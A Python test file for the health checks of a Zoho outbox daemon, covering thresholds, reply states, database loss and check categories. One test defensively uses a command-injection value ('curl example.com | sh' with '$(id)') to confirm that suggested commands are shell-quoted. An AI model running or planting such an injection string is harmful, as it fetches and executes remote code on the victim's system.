"""From readings to findings, without a database: the thresholds that are shares, and who is named."""

import shlex
from datetime import UTC, datetime, timedelta
from fractions import Fraction

import pytest
from hypothesis import given
from hypothesis import strategies as st

from outbox.commands.health.findings import (
    CATEGORIES,
    SEVERITY,
    Check,
    CouldNot,
    Evidence,
    Finding,
    HealthSettings,
    NotAsked,
    State,
    ZohoAnswer,
    expected_triggers,
    findings,
    without_database,
    worst,
)
from outbox.settings import load_settings
from outbox.store.health import (
    MOST,
    Attempts,
    Base,
    Beyond,
    Daemon,
    Holder,
    Stops,
    Synced,
    Throttling,
    Trigger,
)
from outbox.vocabulary import EntityType, OrganisationState

NOW = datetime(2026, 1, 15, 12, tzinfo=UTC)
SETTINGS = load_settings({"DATABASE_URL": "postgresql://127.0.0.1/host"}, required=HealthSettings)


def evidence(
    *,
    base: Base | CouldNot | None = None,
    attempts: Attempts | None = None,
    synced: tuple[Synced, ...] = (),
    holders: tuple[Holder, ...] = (),
    stops: Stops | None = None,
    dead: Beyond | None = None,
    throttling: Throttling | None = None,
    answer: ZohoAnswer | NotAsked | CouldNot | None = None,
) -> Evidence:
    """All is well but for what is given."""
    none = Beyond(0)
    return Evidence(
        base=base or Base(NOW, "host", "zoho_outbox_daemon", 0.0),
        daemons=(Daemon("billing-1", 4711, draining=False, silent_seconds=3.0),),
        pending=none,
        retrying=none,
        processing=none,
        past_due=none,
        holders=holders,
        attempts=attempts or _attempts(0, 0),
        throttling=throttling or Throttling(0),
        stops=stops or Stops(NOW, last_good_reply_at=NOW),
        triggers=tuple(Trigger(table, name, always=True, disabled=False) for table, name in expected_triggers()),
        synced=synced,
        dead=dead or none,
        old_failures=none,
        affected=none,
        answer=answer,
    )


def _attempts(successes: int, failures: int, *, day: int = 0, mean: float | None = None) -> Attempts:
    return Attempts(successes + failures, True, NOW, successes, failures, day, mean, "customer CT-1")


def judge(given_evidence: Evidence, check: Check, settings: HealthSettings = SETTINGS) -> Finding:
    return next(finding for finding in findings(given_evidence, settings) if finding.check is check)


def with_setting(name: str, value: object) -> HealthSettings:
    return load_settings({"DATABASE_URL": "postgresql://127.0.0.1/host", name: str(value)}, required=HealthSettings)


def test_all_is_well_where_nothing_is_wrong() -> None:
    assert {finding.state for finding in findings(evidence(), SETTINGS)} == {State.HEALTHY}
    assert [finding.check for finding in findings(evidence(), SETTINGS)] == list(Check)


@given(st.integers(0, 100_000), st.integers(0, 3_000))
def test_success_is_degraded_at_98_percent_and_below_whatever_the_numbers(successes: int, failures: int) -> None:
    state = judge(evidence(attempts=_attempts(successes, failures)), Check.SUCCESS).state
    low = failures > 0 and Fraction(successes, successes + failures) <= Fraction(98, 100)
    assert state is (State.DEGRADED if low else State.HEALTHY)


@given(st.lists(st.tuples(st.integers(0, 10_000), st.integers(0, 10_000)), min_size=1, max_size=4), st.integers(0, 100))
def test_synced_is_degraded_under_its_percentage_of_all_types_together(
    counts: list[tuple[int, int]], percent: int
) -> None:
    synced = tuple(
        Synced(entity_type, max(pair), min(pair)) for entity_type, pair in zip(EntityType, counts, strict=False)
    )
    settings = with_setting("HEALTH_SYNCED_PERCENT", percent)
    finding = judge(evidence(synced=synced), Check.SYNCED, settings)
    eligible, there = sum(each.eligible for each in synced), sum(each.in_zoho for each in synced)
    low = eligible > 0 and Fraction(there * 100, eligible) < percent
    assert finding.state is (State.DEGRADED if low else State.HEALTHY)
    assert finding.count == eligible - there


@given(st.integers(0, 40), st.integers(1, 20))
def test_a_count_is_reached_at_its_threshold(number: int, threshold: int) -> None:
    for name, check, state, given_evidence in (
        ("HEALTH_DEAD_COUNT", Check.DEAD, State.DEGRADED, evidence(dead=Beyond(number, "customer CT-1", NOW))),
        ("HEALTH_THROTTLED_COUNT", Check.THROTTLED, State.DEGRADED, evidence(throttling=Throttling(number, NOW, "44"))),
        ("HEALTH_WEEK_FAILURES", Check.WEEK_FAILURES, State.DEGRADED, evidence(attempts=_attempts(0, number))),
        ("HEALTH_DAY_FAILURES", Check.DAY_FAILURES, State.UNHEALTHY, evidence(attempts=_attempts(0, 0, day=number))),
    ):
        finding = judge(given_evidence, check, with_setting(name, threshold))
        assert finding.state is (state if number >= threshold else State.HEALTHY)
        assert finding.count == number


@given(st.floats(0, 60))
def test_a_mean_of_five_seconds_is_too_long_and_less_is_not(mean: float) -> None:
    state = judge(evidence(attempts=_attempts(1, 0, mean=mean)), Check.MEAN_SEND).state
    assert state is (State.DEGRADED if mean >= 5 else State.HEALTHY)


@given(st.floats(0, 1))
def test_the_notification_queue_may_be_a_tenth_full_and_no_more(share: float) -> None:
    state = judge(evidence(base=Base(NOW, "host", "r", share)), Check.NOTIFICATION_QUEUE).state
    assert state is (State.DEGRADED if share * 100 > 10 else State.HEALTHY)


@given(st.floats(0, 100_000))
def test_the_oldest_holder_beyond_the_limit_is_named(seconds: float) -> None:
    since = NOW - timedelta(seconds=seconds)
    young = Holder("session", 1, "app", "web", None, "7", NOW, 0.1)
    holder = Holder("session", 4711, "anna", "psql", None, "7", since, seconds)
    finding = judge(evidence(holders=(young, holder)), Check.SNAPSHOT)
    assert finding.state is (State.DEGRADED if seconds > 3600 else State.HEALTHY)
    if finding.state is State.DEGRADED:
        assert finding.example == f"pid 4711, user anna (psql), since {since:%Y-%m-%d %H:%M:%S} UTC"


def test_a_forgotten_prepared_transaction_is_named_with_what_ends_it() -> None:
    holder = Holder("prepared", None, "app", None, "month end", "7", NOW - timedelta(days=1), 86400.0)
    finding = judge(evidence(holders=(holder,)), Check.SNAPSHOT)
    assert finding.example == "prepared transaction month end of app, since 2026-01-14 12:00:00 UTC"
    assert "ROLLBACK PREPARED 'month end'" in (finding.next_step or "")


def test_where_counting_stopped_it_says_so() -> None:
    finding = judge(evidence(dead=Beyond(MOST, "customer CT-1", NOW)), Check.DEAD)
    assert finding.what.startswith("10,000 or more rows dead, the oldest since ")


def test_what_zoho_answers_decides_where_it_was_asked() -> None:
    old = Stops(NOW, last_good_reply_at=NOW - timedelta(hours=2))
    for answer, state in (
        (ZohoAnswer(), State.HEALTHY),
        (ZohoAnswer("HTTP 502", "Wait."), State.UNHEALTHY),
        (ZohoAnswer("HTTP 429 code 44", "Wait.", throttled=True), State.DEGRADED),
        (CouldNot("sending is paused", "Resume."), State.UNKNOWN),
        (None, State.UNKNOWN),
    ):
        assert judge(evidence(stops=old, answer=answer), Check.REPLY).state is state
    assert judge(evidence(stops=old, answer=ZohoAnswer("429", throttled=True)), Check.THROTTLED).count == 1


@pytest.mark.parametrize(
    ("stopped", "expected"),
    [
        (OrganisationState.PAUSED, State.HEALTHY),
        (OrganisationState.THROTTLED, State.DEGRADED),
        (OrganisationState.BROKEN, State.UNHEALTHY),
        (OrganisationState.FORBIDDEN, State.UNHEALTHY),
    ],
)
def test_where_our_own_state_forbids_asking_the_reply_follows_that_state(
    stopped: OrganisationState, expected: State
) -> None:
    finding = judge(evidence(stops=Stops(NOW), answer=NotAsked(stopped, "as it is", "wait")), Check.REPLY)
    assert (finding.state, finding.next_step) == (expected, "wait")


def test_a_name_that_somebody_else_chose_is_no_command_when_it_is_pasted() -> None:
    name = "NC-1; curl example.com | sh '$(id)'"
    dead = judge(evidence(dead=Beyond(1, f"payment {name}", NOW)), Check.DEAD)
    assert dead.next_step is not None
    command, _, _ = dead.next_step.partition(" tells about one.")
    assert shlex.split(command) == ["zoho-outbox", "explain", "payment", name]


def test_a_fresh_reply_needs_no_answer_and_a_refusal_just_now_outranks_it() -> None:
    assert judge(evidence(answer=CouldNot("no credentials", "-")), Check.REPLY).state is State.HEALTHY
    assert judge(evidence(answer=ZohoAnswer("HTTP 401 code 57")), Check.REPLY).state is State.UNHEALTHY


def test_without_the_database_nothing_is_healthy() -> None:
    told = findings(without_database("connection refused"), SETTINGS)
    assert [finding.check for finding in told if finding.state is State.UNHEALTHY] == [Check.DATABASE]
    assert {finding.state for finding in told} == {State.UNHEALTHY, State.UNKNOWN}
    assert worst(finding.state for finding in told) is State.UNHEALTHY


@given(st.lists(st.sampled_from(list(State))))
def test_all_is_as_bad_as_the_worst(states: list[State]) -> None:
    result = worst(states)
    assert all(SEVERITY.index(result) >= SEVERITY.index(state) for state in states)
    assert result in (states or [State.HEALTHY])


def test_every_check_has_its_category() -> None:
    assert sorted(check for checks in CATEGORIES.values() for check in checks) == sorted(Check)
    assert {finding.category for finding in findings(evidence(), SETTINGS)} == set(CATEGORIES)
